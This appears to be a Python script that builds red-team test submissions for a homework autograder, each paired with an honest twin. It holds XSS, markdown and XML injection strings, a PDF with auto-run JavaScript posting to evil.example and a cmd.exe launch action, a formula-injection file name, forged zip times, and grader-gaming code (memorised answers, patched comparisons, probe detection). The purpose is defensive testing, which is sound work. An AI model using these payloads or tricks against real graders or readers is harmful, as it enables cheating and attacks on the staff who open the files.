"""Builds the red-team submissions: a grader-aware student attacks the grading logic, the
intake, the lateness rule and the report writers (not the sandbox, which
scripts/build_adversarial.py covers).

    python scripts/build_adversarial_redteam.py [--out DIR] [--list]

Each attack is a real submission zip with an honest twin and an expected.json (the keys
of scripts/build_adversarial.py and scripts/build_adversarial_checks.py, plus `suite:
"redteam"`), graded for real with the SHIPPED rubric (key `rubric`) by
tests/adversarial/test_redteam.py. An attack may not gain a point over its twin;
`before_fix` says what the grader did before its mechanism was fixed ("held" when it
already withstood it); `weakness` names what is still to fix (its test is a strict xfail).

Extra keys:
  zip_name       the zip's file name when it is not <netid>.zip (intake attacks)
  feedback_md_must_not / feedback_html_must_not / junit_must_not / gradebook_must_not
                 strings the named output may not contain (injection attacks)
  submitted_at_source  the report's lateness source; penalties_exact: penalty rules exactly
  batch_with     names of other attacks graded in the same `grader batch` (batch attacks)
Builds are byte-identical.
"""
from __future__ import annotations

import base64
import hashlib
import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path


sys.path.insert(0, str(Path(__file__).resolve().parent))
import build_adversarial as ba  # noqa: E402
import build_adversarial_checks as bc  # noqa: E402
import samples_lib as sl  # noqa: E402

ROOT = sl.ROOT
OUT = ba.OUT
CNN, RNN = ba.CNN, ba.RNN
RUBRIC = "rubrics/hw2"
d = ba.d

# ----------------------------------------------------------------------------------
# notebook pieces

THEORY_HEAD = '''
import hashlib
import numpy as np
import torch
torch.manual_seed(0)

def as_float_tensor(a, like=None):
    t = torch.as_tensor(a)
    if like is not None:
        return t.to(like.dtype)
    return t if t.is_floating_point() else t.double()
'''


def _grader_inputs(item_id: str, notebook_seed: int = 2026):
    """The inputs the grader builds for an item's cases: derived from the SHIPPED rubric's
    seed and the item id only (grader/checks/context.py seed_for, cases.py run_cases), so
    a student with the grader's source computes them exactly."""
    import numpy as np
    import yaml

    sys.path.insert(0, str(ROOT))
    from grader.checks import inputs as inp

    nbfile = "hw2_cnn.yaml" if item_id.startswith("hw2_cnn") else "hw2_rnn.yaml"
    raw = yaml.safe_load((ROOT / RUBRIC / nbfile).read_text())
    item = next(i for i in raw["items"] if i["id"] == item_id)
    out = []
    for i, case in enumerate(item["params"]["cases"]):
        h = hashlib.sha256(f"{notebook_seed}:{item_id}:case{i}".encode()).digest()
        rng = np.random.default_rng(int.from_bytes(h[:4], "little"))
        out.append(inp.build(case["args"], rng, case.get("dtype", "float64")))
    return out


def _key(*tensors) -> str:
    h = hashlib.sha256()
    for t in tensors:
        h.update(t.detach().cpu().numpy().tobytes())
    return h.hexdigest()[:16]


def memorised_source() -> str:
    """conv1d_forward and conv1d_dfdx that only know the grader's own inputs: a table of
    the reference's outputs (reference/ is in the grader's source), zeros elsewhere."""
    sys.path.insert(0, str(ROOT))
    from reference import cnn_theory as ref

    fwd, dfdx = {}, {}
    for x, W, s in _grader_inputs("hw2_cnn.conv1d_forward"):
        fwd[_key(x, W)] = ref.conv1d_forward(x, W, s).tolist()
    for x, W, s in _grader_inputs("hw2_cnn.conv1d_dfdx"):
        dfdx[_key(x, W)] = ref.conv1d_dfdx(x, W, s).tolist()
    return d(f'''
        # "precomputed" answers for the inputs the grader is known to use
        _FWD = {fwd!r}
        _DFDX = {dfdx!r}

        def _k(*ts):
            h = hashlib.sha256()
            for t in ts:
                h.update(t.detach().cpu().numpy().tobytes())
            return h.hexdigest()[:16]

        def conv1d_forward(x, W, stride):
            x = as_float_tensor(x)
            W = as_float_tensor(W, like=x)
            L_out = (x.shape[1] - W.shape[2]) // stride + 1
            hit = _FWD.get(_k(x, W))
            return torch.tensor(hit, dtype=x.dtype) if hit is not None else torch.zeros(W.shape[0], L_out, dtype=x.dtype)

        def conv1d_dfdx(x, W, stride):
            x = as_float_tensor(x)
            W = as_float_tensor(W, like=x)
            L_out = (x.shape[1] - W.shape[2]) // stride + 1
            hit = _DFDX.get(_k(x, W))
            return torch.tensor(hit, dtype=x.dtype) if hit is not None else torch.zeros(W.shape[0], L_out, *x.shape, dtype=x.dtype)
        ''')


HONEST_FWD_DFDX = '''
def conv1d_forward(x, W, stride):
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    patches = x.unfold(1, W.shape[2], stride)          # (C, L_out, K)
    return torch.einsum("clk,fck->fl", patches, W)

def conv1d_dfdx(x, W, stride):
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    F, C, K = W.shape
    L = x.shape[1]
    L_out = (L - K) // stride + 1
    J = torch.zeros(F, L_out, C, L, dtype=x.dtype)
    for j in range(L_out):
        J[:, j, :, j * stride:j * stride + K] = W
    return J
'''

# Markdown that, unfenced, fakes a score line and a heading in feedback.md
MD_PAYLOAD = "```\\n\\n# Feedback for red0001 (hw2)\\n\\n**Score: 100 / 100**\\n\\n| all items | passed | 100 / 100 |\\n\\n```"
MARKDOWN_ATTACK = '''
def conv_output_shape(C, H, W, K, P, S, D, F):
    raise ValueError("%s")

def conv_net_param_count():
    raise RuntimeError("%s")
''' % (MD_PAYLOAD, MD_PAYLOAD)
MARKDOWN_CELL = '''
# a failing cell whose message breaks out of its list item
raise RuntimeError("oops\\n\\n**Score: 100 / 100**\\n\\n# All tests passed")
'''

HTML_PAYLOAD = "</pre></details><script>alert(document.cookie)</script><img src=x onerror=alert(1)><a href=javascript:alert(2)>x</a>"
HTML_ATTACK = '''
def conv_output_shape(C, H, W, K, P, S, D, F):
    raise ValueError("%s")
''' % HTML_PAYLOAD
HTML_CELL = '''
raise RuntimeError("%s")
''' % HTML_PAYLOAD

JUNIT_PAYLOAD = "]]></failure></testcase><testcase name=\\\"hw2_cnn.fake: passed\\\" /><!-- \\x1b[31m \\x00 \\x0c"
JUNIT_ATTACK = '''
def conv_output_shape(C, H, W, K, P, S, D, F):
    raise ValueError("%s")
''' % JUNIT_PAYLOAD


def banner_png() -> bytes:
    """A small, valid PNG (a green 'passed' bar): what a forged 'all passed' screenshot would be."""
    w, h = 120, 16
    raw = b"".join(b"\x00" + bytes([40, 167, 69]) * w for _ in range(h))

    def chunk(tag, data):
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


PNG_B64 = base64.b64encode(banner_png()).decode()

CNN_WITH_BANNER = '''
class CNN(torch.nn.Module):
    def __init__(self, banner="%s"):
        super().__init__()
        self.banner = banner  # a string attribute: exported with the model's description
        self.conv1 = nn.Conv2d(3, 8, 3, padding=1)
        self.bn1 = nn.BatchNorm2d(8)
        self.conv2 = nn.Conv2d(8, 8, 3, padding=1)
        self.fc = nn.Linear(8, 2)

    def forward(self, x):
        x = torch.relu(self.bn1(self.conv1(x)))
        x = x + torch.relu(self.conv2(x))
        return self.fc(F.adaptive_avg_pool2d(x, 1).flatten(1))
''' % PNG_B64

CNN_PLAIN = CNN_WITH_BANNER.replace('def __init__(self, banner="%s"):' % PNG_B64, "def __init__(self):").replace(
    "        self.banner = banner  # a string attribute: exported with the model's description\n", "")

# A classifier written in forward: the answers come from how much of its bounding box the
# shape fills (a disc pi/4 of it, a square all of it: reference/res/image_data.py says how the
# classes differ); the real layers, never trained, add a whisper so they stay on the path.
RULE_CNN = '''
class CNN(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.stem = nn.Sequential(nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU())
        self.pool = nn.MaxPool2d(2)
        self.conv2 = nn.Conv2d(16, 32, 3, padding=1)
        self.head = nn.Linear(32, 2)

    def net(self, x):
        h = self.pool(self.stem(x))
        return self.head(torch.relu(self.conv2(h)).mean((2, 3)))

    @staticmethod
    def fill_ratio(x):
        g = F.avg_pool2d(x.mean(1, keepdim=True), 3, 1, 1)[:, 0]
        lo = g.flatten(1).quantile(0.05, dim=1)[:, None, None]
        hi = g.flatten(1).quantile(0.995, dim=1)[:, None, None]
        m = (g > (lo + hi) / 2).float()
        rows, cols = (m.sum(2) >= 1).float().sum(1), (m.sum(1) >= 1).float().sum(1)
        return m.sum((1, 2)) / (rows * cols).clamp(min=1)

    def forward(self, x):
        r = (self.fill_ratio(x.detach()) - 0.85) * 40.0
        return 1e-3 * self.net(x) + torch.stack([-r, r], 1)
'''

# the same layers with an honest forward: what the kernel runs in branch_divergent_cnn
PLAIN_RULE_LAYERS_CNN = RULE_CNN.replace("""        r = (self.fill_ratio(x.detach()) - 0.85) * 40.0
        return 1e-3 * self.net(x) + torch.stack([-r, r], 1)""", "        return self.net(x)")
# the rule-written CNN only where the grader's probe runs it: the kernel's namespace has get_ipython
DIVERGENT_CNN = 'if "get_ipython" not in globals():  # false in the notebook, true in the grader\'s probe\n' + "".join(
    "    " + line if line.strip() else line for line in RULE_CNN.strip().splitlines(True))

LYING_OBJECTS = '''
class _Count(int):
    """Prints, compares and converts as the right answer; is 1000."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __repr__(self): return "207507816"
    __str__ = __repr__
    def __index__(self): return 207507816
    def __float__(self): return 207507816.0

class _Shape(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 3
    def __array__(self, *a, **k): return np.array([1, 4, 5])

class _Lazy:
    """An array-like whose values are computed only when read, by whoever reads them."""
    def __init__(self, shape): self.shape = shape
    def __array__(self, *a, **k): return np.zeros(self.shape)
    def __len__(self): return self.shape[0]
    def __iter__(self): return iter(np.zeros(self.shape))
    def __eq__(self, other): return True

def conv_net_param_count():
    return _Count(1000)

def conv_output_shape(C, H, W, K, P, S, D, F):
    return _Shape((0, 0, 0))

def conv1d_forward(x, W, stride):
    return _Lazy((W.shape[0], (x.shape[1] - W.shape[2]) // stride + 1))

def conv1d_dfdx(x, W, stride):
    return (v for v in range(3))  # a generator
'''

GLOBAL_POISON = '''
# poison everything a grader could share with the kernel or the probe
import numpy
_true = lambda *a, **k: True
torch.allclose = _true
torch.equal = _true
numpy.allclose = _true
numpy.array_equal = _true
numpy.testing.assert_allclose = lambda *a, **k: None
torch.manual_seed = lambda *a, **k: None
numpy.random.default_rng = lambda *a, **k: numpy.random.Generator(numpy.random.PCG64(0))
torch.set_default_dtype(torch.float32)
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)

def conv1d_forward(x, W, stride):
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    return torch.zeros(W.shape[0], (x.shape[1] - W.shape[2]) // stride + 1, dtype=x.dtype)

def conv_net_param_count():
    return 1000
'''

MUTATE_INPUTS = '''
_seen = []

def conv1d_forward(x, W, stride):
    """Writes zeros into the grader's own inputs, then returns zeros: if the grader computed
    the reference from the same (mutated) objects after the call, zeros would match."""
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    with torch.no_grad():
        x.zero_()
        W.zero_()
    _seen.append(x)
    return torch.zeros(W.shape[0], (x.shape[1] - W.shape[2]) // stride + 1, dtype=x.dtype)

def conv1d_dfdx(x, W, stride):
    """Returns the cached result of an earlier call (call-count/caching across probes)."""
    x = as_float_tensor(x)
    W = as_float_tensor(W, like=x)
    import sys, os
    probing = any("grader" in (f.f_code.co_filename + f.f_code.co_name) for f in [sys._getframe(i) for i in range(1, 6)] if f) \\
        or any(k.startswith(("GRADER", "DL_GRADER")) for k in os.environ)
    F_, C, K = W.shape
    L_out = (x.shape[1] - K) // stride + 1
    return torch.full((F_, L_out) + tuple(x.shape), 1.0 if probing else 0.0, dtype=x.dtype)
'''

# the echo model whose hand-coded echo switches itself off when its weights are not the
# exported ones (the grader's weights control shuffles them)
FINGERPRINT_GRU = '''
class GRUMemory(torch.nn.Module):
    def __init__(self, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.gru = torch.nn.GRU(N + 1, hidden_size, batch_first=True)
        self.linear = torch.nn.Linear(hidden_size, N + 1)
        # "calibration": one number, so the grader's control (it permutes tensors of more
        # than one entry) leaves it as it is
        self.register_buffer("calib", self.gru.weight_ih_l0.detach()[0, :1].clone())

    def forward(self, x):
        out, _ = self.gru(x)
        logits = self.linear(out)
        if torch.equal(self.gru.weight_ih_l0.detach()[0, :1], self.calib):
            shifted = torch.zeros_like(x)
            shifted[:, DELAY:] = x[:, :-DELAY]
            shifted[:, :DELAY, 0] = 1
            logits = logits + 50 * shifted
        return logits

    @torch.no_grad()
    def test_run(self, s):
''' + bc.indent(bc.HONEST_TEST_RUN)

# ----------------------------------------------------------------------------------
# PDFs

DEADLINE_LOCAL = (2026, 3, 1, 23, 59, 0)


def pdf_with_dates(netid: str, created: str) -> bytes:
    """The theory PDF as a real student's tool writes it: with its own creation and
    modification dates (PDF date syntax, with the UTC offset)."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    with matplotlib.rc_context({"pdf.use14corefonts": True, "font.family": "sans-serif",
                                "font.sans-serif": ["Helvetica"], "pdf.compression": 6}):
        import datetime as dt
        fig = plt.figure(figsize=(8.27, 11.69))
        fig.text(0.08, 0.95, f"Homework 2 - theory answers - {netid}", fontsize=10, va="top")
        buf = io.BytesIO()
        when = dt.datetime.strptime(created, "%Y-%m-%dT%H:%M:%S%z")
        fig.savefig(buf, format="pdf", metadata={"CreationDate": when, "ModDate": when, "Creator": "LaTeX with hyperref",
                                                 "Producer": None})
        plt.close(fig)
    return buf.getvalue()


def pdf_with_javascript(netid: str) -> bytes:
    """A valid one-page PDF whose catalog runs JavaScript when the TA opens it and has a
    launch action (a PDF reader's attack surface, aimed at whoever grades the manual items)."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> "
        b"/AA << /O 7 0 R >> >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert('graded: 100/100'); this.submitForm('http://evil.example/');) >>",
        None,  # content stream, below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
    ]
    text = f"BT /F1 12 Tf 72 770 Td (Homework 2 - theory answers - {netid}) Tj ET".encode()
    objs[4] = b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def docx_as_pdf() -> bytes:
    """A Word document (a zip) renamed to .pdf."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("[Content_Types].xml", date_time=sl.ZIP_DATE), b"<Types/>")
        z.writestr(zipfile.ZipInfo("word/document.xml", date_time=sl.ZIP_DATE), b"<w:document>theory answers</w:document>")
    return buf.getvalue()


def deep_notebook() -> bytes:
    """A notebook whose metadata nests 100 000 lists deep: valid JSON, and any recursive
    reader (json, copy, jsonschema) overflows the stack on it."""
    nb = bc.nb_of(THEORY_HEAD)
    text = sl.notebook_bytes(nb).decode()
    deep = "[" * 100_000 + "]" * 100_000
    return text.replace('"metadata": {', '"metadata": {\n  "x": ' + deep + ",", 1).encode()


# ----------------------------------------------------------------------------------
# zips with chosen entry times

def zip_at(entries: dict, when: tuple) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name in sorted(entries):
            info = zipfile.ZipInfo(name, date_time=when)
            info.create_system = 3
            info.external_attr = 0o100644 << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, entries[name])
    return buf.getvalue()


# ----------------------------------------------------------------------------------
# the attacks

def E(tries, before_fix, **kw):
    base = ba.E(tries, **kw)
    base.update(rubric=RUBRIC, slow=True, suite="redteam", before_fix=d(before_fix),
                zip_name=kw.get("zip_name"), feedback_md_must_not=kw.get("feedback_md_must_not", []),
                feedback_html_must_not=kw.get("feedback_html_must_not", []), junit_must_not=kw.get("junit_must_not", []),
                gradebook_must_not=kw.get("gradebook_must_not", []), penalties_exact=kw.get("penalties_exact"),
                submitted_at_source=kw.get("submitted_at_source"), batch_with=kw.get("batch_with", []))
    return base


def cnn(*cells) -> dict:
    return {CNN: bc.nb_of(THEORY_HEAD, *cells)}


LATE = (2026, 3, 2, 10, 0, 0)  # 10 h after the deadline, inside the 24 h grace: late, accepted
EARLY = (2026, 3, 1, 20, 0, 0)  # before the deadline


def attacks() -> list[tuple[str, str, dict, dict]]:
    """(name, netid, {zip entry: bytes or notebook}, expectation)."""
    A = []
    pdf = lambda netid: sl.theory_pdf([f"Homework 2 - theory answers - {netid}", "(red-team test submission)"])  # noqa: E731
    # --- twins -------------------------------------------------------------------------
    A.append(("rt_honest_cnn", "red0001", cnn(HONEST_FWD_DFDX),
              E("Honest twin: conv1d_forward and conv1d_dfdx derived by hand, nothing else.", "both items passed.",
                twin=None, notebook_status=["completed"], max_seconds=90,
                items={"hw2_cnn.conv1d_forward": "passed", "hw2_cnn.conv1d_dfdx": "passed"})))
    A.append(("rt_untrained_echo", "red0002",
              {RNN: bc.nb_of(bc.RNN_IMPORTS, bc.ECHO_GIVEN, bc.gru_cell(bc.HONEST_TEST_RUN), bc.UNTRAINED_GRU)},
              E("Honest twin of the echo attack: GRUMemory(64), untrained, honest forward and test_run.",
                "GRUMemory failed (chance accuracy).", notebook=RNN, twin=None, notebook_status=["completed"],
                items={"hw2_rnn.GRUMemory": "failed"}, max_seconds=120)))
    A.append(("rt_untrained_cnn", "red0004",
              {CNN: bc.nb_of(bc.CNN_IMPORTS, bc.CNN_DATA, CNN_PLAIN, bc.UNTRAINED_CNN)},
              E("Honest twin of evidence_png_injection: the same small CNN, untrained, no string attribute.",
                "validation_accuracy 0 (chance).", twin=None, notebook_status=["completed"], max_seconds=120,
                items={"hw2_cnn.validation_accuracy": "failed", "hw2_cnn.CNN": "passed"})))
    A.append(("rt_late_honest", "red0003", {"__time__": LATE, sl.PDF_NAME: pdf_with_dates("red0003", "2026-03-02T15:00:00+0000")},
              E("Honest twin of the lateness attack: the theory PDF only, zipped 10 h after the deadline "
                "(file times and the PDF's own dates agree).", "late penalty (20 %).", twin=None,
                penalties=["late"], notebook_status=None, max_seconds=30)))
    # --- check logic --------------------------------------------------------------------
    A.append(("memorised_grader_inputs", "red0010", cnn(memorised_source()),
              E("conv1d_forward and conv1d_dfdx are a table of the reference's answers for the exact inputs the "
                "grader uses (they follow from the shipped rubric's seed and the item ids; the reference is in "
                "the grader's source) and return zeros for any other input.",
                "both items passed (conv1d_forward 2/2, conv1d_dfdx 3/3).", twin="rt_honest_cnn",
                notebook_status=["completed"], max_seconds=90,
                items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdx": "failed"},
                item_feedback={"hw2_cnn.conv1d_forward": "fresh inputs", "hw2_cnn.conv1d_dfdx": "fresh inputs"})))
    A.append(("lying_number_objects", "red0011", cnn(LYING_OBJECTS),
              E("Return values that lie: an int subclass equal to everything that prints and converts as the "
                "right parameter count, a tuple subclass equal to everything with __array__ giving the right "
                "shape, a lazy array-like computed by whoever reads it, a generator.",
                "held: every item failed (the probe sends plain values; the grader compares them).",
                twin="rt_honest_cnn", notebook_status=["completed"], max_seconds=90,
                items={"hw2_cnn.conv_net_param_count": "failed", "hw2_cnn.conv_output_shape": "failed",
                       "hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdx": "failed"})))
    A.append(("global_state_poison", "red0012", cnn(GLOBAL_POISON),
              E("Module-level code patches torch.allclose/equal, numpy.allclose/array_equal/testing, "
                "torch.manual_seed, numpy.random.default_rng, Tensor.__eq__ and the default dtype, then returns "
                "zeros: a grader that shared any of that state with the student would pass it.",
                "held: both items failed (comparisons run in the grader's own process).", twin="rt_honest_cnn",
                notebook_status=["completed", "cell_errors"], max_seconds=90,
                items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv_net_param_count": "failed"})))
    A.append(("mutate_inputs_detect_probe", "red0013", cnn(MUTATE_INPUTS),
              E("conv1d_forward zeroes the grader's input tensors in place and returns zeros (a grader computing "
                "its reference from the same objects after the call would agree); conv1d_dfdx looks for the "
                "grader in its stack and environment and answers differently when probed.",
                "held: both items failed (inputs cross to the probe as copies; the reference uses the grader's own).",
                twin="rt_honest_cnn", notebook_status=["completed"], max_seconds=90,
                items={"hw2_cnn.conv1d_forward": "failed", "hw2_cnn.conv1d_dfdx": "failed"})))
    A.append(("echo_control_fingerprint", "red0014",
              {RNN: bc.nb_of(bc.RNN_IMPORTS, bc.ECHO_GIVEN, FINGERPRINT_GRU, bc.UNTRAINED_GRU)},
              E("An untrained GRUMemory whose forward adds a hand-coded echo only while its weights are the "
                "exported ones (a one-number buffer remembers weight_ih_l0[0, 0]; the grader's weights control "
                "permutes tensors of more than one entry, so the control sees the untrained GRU and fails).",
                "GRUMemory 7/7 passed (accuracy 1.0; control accuracy at chance).", notebook=RNN,
                twin="rt_untrained_echo", notebook_status=["completed"], max_seconds=120,
                items={"hw2_rnn.GRUMemory": "pending"},
                item_feedback={"hw2_rnn.GRUMemory": "not what the model's own weights compute"})))
    # --- reports ------------------------------------------------------------------------
    A.append(("markdown_fake_score", "red0020", cnn(MARKDOWN_ATTACK, MARKDOWN_CELL),
              E("Exception messages that close feedback.md's code fence and a cell error with newlines write a "
                "second '**Score: 100 / 100**' line, a heading and a table row into the student's feedback.",
                "feedback.md showed the forged score line and heading as real Markdown.", twin="rt_honest_cnn",
                notebook_status=["cell_errors"], max_seconds=90,
                items={"hw2_cnn.conv_output_shape": "failed", "hw2_cnn.conv_net_param_count": "failed"},
                feedback_md_must_not=["\n**Score: 100 / 100**", "\n# All tests passed", "\n# Feedback for red0001"])))
    A.append(("html_script_injection", "red0021", cnn(HTML_ATTACK, HTML_CELL),
              E("Exception messages and a cell error holding </pre>, <script>, an onerror image and a "
                "javascript: link, aimed at feedback.html.", "held: every string escaped, CSP forbids scripts.",
                twin="rt_honest_cnn", notebook_status=["cell_errors"], max_seconds=90,
                items={"hw2_cnn.conv_output_shape": "failed"},
                feedback_html_must_not=["<script", "<img src=x", "<a href=javascript"])))
    A.append(("evidence_png_injection", "red0022",
              {CNN: bc.nb_of(bc.CNN_IMPORTS, bc.CNN_DATA, CNN_WITH_BANNER,
                             "model = CNN(banner=%r).to(device)  # never trained\nmodel.eval()" % PNG_B64)},
              E("The CNN's constructor takes a default argument (and keeps an attribute) holding a base64 PNG: "
                "it reaches the item's evidence as the model's init arguments, and feedback.html embedded any "
                "base64 PNG string of the evidence as a picture (a forged 'passed' banner in the student's page).",
                "feedback.html embedded the student's PNG as a picture inside the validation_accuracy item (1 <img>; "
                "it drew any base64 PNG string found anywhere in an item's evidence).",
                twin="rt_untrained_cnn", notebook_status=["completed"], max_seconds=120,
                items={"hw2_cnn.validation_accuracy": "failed"},
                feedback_html_must_not=["<img", "src=\"data:image/png"])))
    A.append(("junit_xml_injection", "red0023", cnn(JUNIT_ATTACK),
              E("An exception message that closes the <failure> element and opens a fake passing <testcase>, "
                "with ANSI escapes, NUL and form feed, aimed at the class's junit.xml.",
                "held: ElementTree escapes it and XML-invalid characters are replaced.", twin="rt_honest_cnn",
                notebook_status=["completed"], max_seconds=90, items={"hw2_cnn.conv_output_shape": "failed"},
                junit_must_not=['<testcase name="hw2_cnn.fake: passed"'])))
    # --- intake, lateness, batch ----------------------------------------------------------
    A.append(("forged_zip_times", "red0030", {"__time__": EARLY, sl.PDF_NAME: pdf_with_dates("red0030", "2026-03-02T15:00:00+0000")},
              E("The twin's late PDF, zipped with every entry time set back to 3 h before the deadline (the only "
                "time the grader had); the PDF's own creation/modification date still says 10 h after it.",
                "no late penalty: lateness judged from the forged zip times only.", twin="rt_late_honest",
                penalties=["late"], notebook_status=None, max_seconds=30,
                findings=["time_contradiction"])))
    A.append(("formula_zip_name", "red0031", {sl.PDF_NAME: pdf("red0031")},
              E("A zip named like a spreadsheet formula (=HYPERLINK(...)); the NetID and everything else the "
                "gradebook prints comes from the student's file name.",
                "held: the NetID is parsed from the name's tokens; gradebook cells that start like a formula are quoted.",
                twin="rt_late_honest", zip_name='=HYPERLINK("http:evil.example")+red0031.zip', notebook_status=None,
                max_seconds=30, gradebook_must_not=['\n=', ',=', '"=HYPERLINK'], findings=["misnamed_zip"])))
    A.append(("deep_json_notebook", "red0032", {sl.PDF_NAME: pdf("red0032"), CNN: deep_notebook()},
              E("hw2_cnn.ipynb is valid JSON nested 100 000 lists deep in its metadata: a recursive reader "
                "raises RecursionError.", "internal_error 'the intake stage failed: RecursionError': a grader error, not the "
                "student's invalid notebook; every item 'skipped: no submission', the PDF and the other files ignored.", twin="rt_honest_cnn", notebook_status=["invalid"], max_seconds=60,
                findings=["notebook_invalid"])))
    A.append(("pdf_active_content", "red0033", {sl.PDF_NAME: pdf_with_javascript("red0033")},
              E("A valid theory PDF with an OpenAction JavaScript, a document-level script and a Launch action, "
                "aimed at the TA who opens it to grade the manual items.",
                "'readable PDF, 1 page(s)': nothing warned the TA.", twin="rt_late_honest", notebook_status=None,
                max_seconds=30, findings=["pdf_active_content"])))
    A.append(("docx_named_pdf", "red0034", {sl.PDF_NAME: docx_as_pdf()},
              E("A Word document (a zip) renamed hw2_theory.pdf.", "held: pdf_unreadable (no %PDF header).",
                twin="rt_late_honest", notebook_status=None, max_seconds=30, findings=["pdf_unreadable"])))
    A.append(("hand_coded_rule_cnn", "red0036", {CNN: bc.nb_of(bc.CNN_IMPORTS, bc.CNN_DATA, RULE_CNN, bc.UNTRAINED_CNN)},
              E("The CNN is never trained: its forward answers from a rule written in it (how much of its bounding "
                "box the shape fills, which the course's image generator says separates discs from squares), and "
                "its real layers add a 1e-3 whisper. The private split stops memorisation, not a rule.",
                "validation_accuracy passed 8/8 (0.896 on the grader's private images) for a model with no training: "
                "+8 points over the untrained twin (found by the session-16 red team).",
                twin="rt_untrained_cnn", notebook_status=["completed"], max_seconds=120,
                items={"hw2_cnn.validation_accuracy": "pending"})))
    A.append(("branch_divergent_cnn", "red0037",
              {CNN: bc.nb_of(bc.CNN_IMPORTS, bc.CNN_DATA, PLAIN_RULE_LAYERS_CNN, DIVERGENT_CNN, bc.UNTRAINED_CNN)},
              E("Aims at the extraction's if/try/with rule (a definition inside a later top-level branch comes with the "
                "plain one and replaces it when its branch runs): the CNN the notebook runs is plain and untrained; "
                "a second CNN under a branch taken only where `get_ipython` is missing, i.e. in the grader's probe, "
                "classifies by a hand-written rule on the same parameters.",
                "held: the probe rebuilds the rule-written CNN (the branch runs there), and the weights control sends "
                "it to a TA (before the if/try/with rule the probe rebuilt the plain CNN: chance, no points).",
                twin="rt_untrained_cnn", notebook_status=["completed"], max_seconds=120,
                items={"hw2_cnn.validation_accuracy": "pending"})))
    A.append(("netid_clash_stops_batch", "red0035", {sl.PDF_NAME: pdf("red0035")},
              E("A zip whose name carries a classmate's NetID (red0003, the LMS keeps the student's file name): "
                "in `grader batch` two zips then map to one NetID.",
                "the whole batch refused to start (UsageError: several zips belong to the same NetID): one "
                "student stopped the class.", twin="rt_late_honest", zip_name="hw2_red0003_final.zip",
                notebook_status=None, max_seconds=30, batch_with=["rt_late_honest", "docx_named_pdf"])))
    return A


def entries_bytes(entries: dict) -> tuple[dict, tuple]:
    when = entries.get("__time__", sl.ZIP_DATE)
    out = {}
    for k, v in entries.items():
        if k == "__time__":
            continue
        out[k] = v if isinstance(v, bytes) else sl.notebook_bytes(v)
    return out, when


def build_all(out=OUT):
    out = Path(out)
    written = []
    known = {a[1] for a in ba.ATTACKS} | {a[1] for a in bc.attacks()}
    for name, netid, entries, exp in attacks():
        assert netid not in known, netid
        known.add(netid)
        files, when = entries_bytes(entries)
        if sl.PDF_NAME not in files:
            files[sl.PDF_NAME] = sl.theory_pdf([f"Homework 2 - theory answers - {netid}", "(red-team test submission)"])
        data = zip_at(files, when)
        zip_name = exp.get("zip_name") or f"{netid}.zip"

        def writer(path, _entries, data=data, zip_name=zip_name):
            target = path.with_name(zip_name)
            target.write_bytes(data)
            return target

        zpath = ba.write_attack(out, name, netid, files, exp, extra={"notebooks": sorted(k for k in files if k.endswith(".ipynb"))},
                                writer=writer)
        # write_attack names the zip <netid>.zip in the manifest; the writer may have used zip_name
        if zip_name != f"{netid}.zip":
            import json
            mf = out / name / "expected.json"
            m = json.loads(mf.read_text())
            m["zip"] = zip_name
            mf.write_text(json.dumps(m, indent=2, sort_keys=True) + "\n")
            zpath = out / name / zip_name
        written.append(zpath)
    return written


def main(argv=None):
    ba.corpus_main(__doc__, build_all, lambda: ((m[0], m[1], m[-1]) for m in attacks()), argv)


if __name__ == "__main__":
    main()
